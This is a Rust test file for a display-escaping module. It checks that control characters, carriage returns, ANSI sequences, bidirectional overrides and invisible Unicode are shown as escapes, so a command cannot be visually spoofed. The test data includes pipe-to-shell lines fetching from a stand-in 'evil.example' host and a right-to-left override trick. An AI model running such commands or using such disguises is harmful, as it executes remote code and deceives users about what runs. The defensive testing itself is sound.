//! Tests of [`super`]: every class of character that could redraw, reorder
//! or hide text is shown as an escape; the rest is left as it is.

use proptest::prelude::*;

use super::*;

#[test]
fn ordinary_text_is_left_as_it_is() {
    for same in [
        "ls -la",
        "curl https://e.com/a?b=c | sh",
        "printf 'a\\tb\\n' \\x1b",
        "echo 'שלום עולם' مرحبا 山田 José 🌸",
        "",
    ] {
        assert!(matches!(line(same), Cow::Borrowed(_)), "{same:?}");
        assert_eq!(line(same), same);
        assert_eq!(text(same), same);
    }
}

#[test]
fn an_escape_sequence_and_a_carriage_return_cannot_redraw_the_line() {
    let spoof = "curl -s https://evil.example/x | sh\r\u{1b}[2Kls -la";
    assert_eq!(line(spoof), "curl -s https://evil.example/x | sh\\r\\x1b[2Kls -la");
    assert_eq!(text(spoof), line(spoof));
}

#[test]
fn every_c0_control_and_del_is_an_escape() {
    assert_eq!(
        line("\u{0}\u{7}\u{8}\u{b}\u{c}\u{1f}\u{7f}"),
        "\\x00\\x07\\x08\\x0b\\x0c\\x1f\\x7f"
    );
    for c in (0..0x20u8).chain([0x7f]).map(char::from) {
        let shown = line(&c.to_string()).into_owned();
        assert!(
            shown.starts_with('\\') && shown.is_ascii() && !shown.chars().any(|c| c.is_control()),
            "{shown:?}"
        );
    }
}

#[test]
fn tabs_and_line_breaks_stay_in_text_and_not_on_a_line() {
    let command = "for f in *; do\n\techo \"$f\"\ndone";
    assert_eq!(text(command), command);
    assert_eq!(line(command), "for f in *; do\\n\\techo \"$f\"\\ndone");
    assert_eq!(text("a\r\nb"), "a\\r\nb");
}

#[test]
fn c1_controls_are_escapes() {
    assert_eq!(line("a\u{80}b\u{9b}31mc\u{9f}"), "a\\u{80}b\\u{9b}31mc\\u{9f}");
    for c in ('\u{80}'..='\u{9f}').map(String::from) {
        assert!(line(&c).starts_with("\\u{"), "{c:?}");
    }
}

#[test]
fn bidirectional_controls_cannot_reorder_the_command() {
    // Were the override honoured, `hs.live` would read `evil.sh`.
    assert_eq!(line("echo \u{202E}hs.live\u{202C}"), "echo \\u{202e}hs.live\\u{202c}");
    let bidi = [
        '\u{061C}', '\u{200E}', '\u{200F}', '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}',
        '\u{2067}', '\u{2068}', '\u{2069}',
    ];
    for c in bidi {
        assert_eq!(line(&c.to_string()), format!("\\u{{{:x}}}", c as u32));
        assert_eq!(text(&c.to_string()), format!("\\u{{{:x}}}", c as u32));
    }
}

#[test]
fn invisible_characters_are_escapes() {
    for (c, shown) in [
        ('\u{200B}', "\\u{200b}"),
        ('\u{200C}', "\\u{200c}"),
        ('\u{200D}', "\\u{200d}"),
        ('\u{2060}', "\\u{2060}"),
        ('\u{2064}', "\\u{2064}"),
        ('\u{FEFF}', "\\u{feff}"),
        ('\u{00AD}', "\\u{ad}"),
        ('\u{E0041}', "\\u{e0041}"),
        ('\u{2028}', "\\u{2028}"),
        ('\u{2029}', "\\u{2029}"),
        ('\u{00A0}', "\\u{a0}"),
        ('\u{3000}', "\\u{3000}"),
        ('\u{3164}', "\\u{3164}"),
        ('\u{034F}', "\\u{34f}"),
    ] {
        assert_eq!(line(&format!("rm{c}x")), format!("rm{shown}x"), "{c:?}");
    }
}

proptest! {
    #[test]
    fn nothing_hidden_is_left_and_escaping_twice_changes_nothing(value in "\\PC{0,40}|[\\x00-\\x{a0}\\x{2000}-\\x{206f}\\x{feff}]{0,40}") {
        let once = line(&value).into_owned();
        prop_assert!(!once.chars().any(|c| hidden(c, false)), "{once:?}");
        prop_assert_eq!(line(&once), once.as_str());
        let kept = text(&value).into_owned();
        prop_assert!(!kept.chars().any(|c| hidden(c, true)), "{kept:?}");
        prop_assert_eq!(text(&kept), kept.as_str());
        // What was not hidden is all there, in its order.
        let plain: Vec<char> = value.chars().filter(|&c| !hidden(c, false)).collect();
        let mut rest = once.chars();
        prop_assert!(plain.iter().all(|&c| rest.any(|shown| shown == c)), "{value:?} as {once:?}");
    }
}
